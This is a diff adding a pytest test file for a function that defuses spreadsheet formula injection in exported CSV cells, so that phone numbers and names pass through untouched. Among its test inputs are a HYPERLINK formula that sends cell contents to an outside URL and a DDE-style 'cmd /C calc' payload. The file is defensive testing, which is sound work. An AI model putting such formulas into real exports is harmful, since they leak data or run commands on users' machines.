@@ -1,0 +1,76 @@
+"""Text that a spreadsheet would run is defused, everything else is left alone."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import pytest
+
+from graph.export.cells import safe
+
+BROKEN = Path(__file__).parents[2] / "data" / "broken" / "formula_cells.csv"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://example.com/?x="&A1,"Klik hier")',
+        "=",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "+1+cmd",
+        "-2+3",
+        "+31-6-12345678",
+        "-",
+        "+",
+        "-cmd|' /C calc'!A0",
+        "+31 6=1",
+        "+31 (0)6\n=1",
+        "-2-3",
+        "+",
+        "+()",
+    ],
+)
+def test_defused(text: str) -> None:
+    assert safe(text) == "'" + text
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "+31612345678",
+        "+31 6 12 34 56 78",
+        "+31 (0)6 12345678",
+        "+32.470.12.34.56",
+        "-5",
+        "-1,234.50",
+        "+1.5e-7",
+        "-12%",
+        "0612345678",
+        "04197",
+        "",
+        "a=b",
+        "'quoted",
+        "Ineke Lepelbroek",
+        "RS155354615NL",
+        -5,
+        2.5,
+        True,
+        None,
+    ],
+)
+def test_untouched(value: object) -> None:
+    assert safe(value) is value
+
+
+def test_the_delivery_that_tries() -> None:
+    with BROKEN.open(encoding="utf-8", newline="") as rows:
+        read = list(csv.DictReader(rows))
+    names = [row["sender_name"] for row in read]
+    assert [safe(name) for name in names[:5]] == ["'" + name for name in names[:5]]
+    assert safe(names[5]) == "INEKE LEPELBROEK"
+    phones = [row[field] for row in read for field in ("sender_phone", "recipient_phone") if row[field]]
+    assert "+31612345678" in phones
+    assert [safe(phone) for phone in phones] == phones
